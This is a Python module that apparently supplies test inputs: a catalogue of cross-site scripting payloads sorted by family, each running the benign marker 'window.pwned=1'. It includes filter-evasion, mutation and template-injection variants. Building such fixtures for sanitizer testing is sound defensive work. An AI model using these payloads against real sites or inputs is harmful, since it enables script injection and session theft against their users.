"""Texts that run a script where a page shows them as anything but text, by family."""

from __future__ import annotations

RUN = "window.pwned=1"
"""The script that each tries to run."""

TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<object data='data:text/html,<script>{RUN}</script>'>",
    f"<embed src='javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href='data:text/css,x' onload={RUN}>",
    f"<form action='javascript:{RUN}'><button>go</button></form>",
    f"<button formaction='javascript:{RUN}'>go</button>",
)
ATTRIBUTES = (
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p popover id=p onbeforetoggle={RUN}>x",
    f"<a href=# tabindex=1 onfocusin={RUN}>x</a>",
    f"<img src=x one\x09rror={RUN} onerror\x0a={RUN}>",
)
SVG = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\u0009script:{RUN}",
    f"\u0001javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"javascript://example.com/%0a{RUN}",
    f"https://example.com/'onmouseover='{RUN}",
    f'https://example.com/"><img/src=x/onerror={RUN}>',
    f"//example.com/<svg/onload={RUN}>",
)
MARKUP = (
    f"` onclick={RUN} `",
    f"[go](javascript:{RUN})",
    f"[go](data:text/html,<script>{RUN}</script>)",
    f"![x](x' onerror='{RUN})",
    f"[<img src=x onerror={RUN}>](https://example.com/)",
    f"[go](https://example.com/ '\" onmouseover={RUN}')",
    f"**<img src=x onerror={RUN}>**",
    f"`</code><img src=x onerror={RUN}>`",
    f"```html\n</code></pre><script>{RUN}</script>\n```",
    f"> <svg onload={RUN}>",
    f"<javascript:{RUN}>",
)
MUTATIONS = (
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u02bb><img src=x onerror={RUN}>",
)
TEMPLATES = (
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "{% load x %}{{ x|safe }}",
    "<%= window.pwned=1 %>",
    "#{window.pwned=1}",
    "</script><script>{{window.pwned=1}}",
)
STYLES = (
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<div style=\"background:url('javascript:{RUN}')\">x</div>",
    f"<style onload={RUN}></style>",
    f"red;background:url(javascript:{RUN})",
)
INJECTIONS = (*TAGS, *ATTRIBUTES, *SVG, *ADDRESSES, *MARKUP, *MUTATIONS, *TEMPLATES, *STYLES)
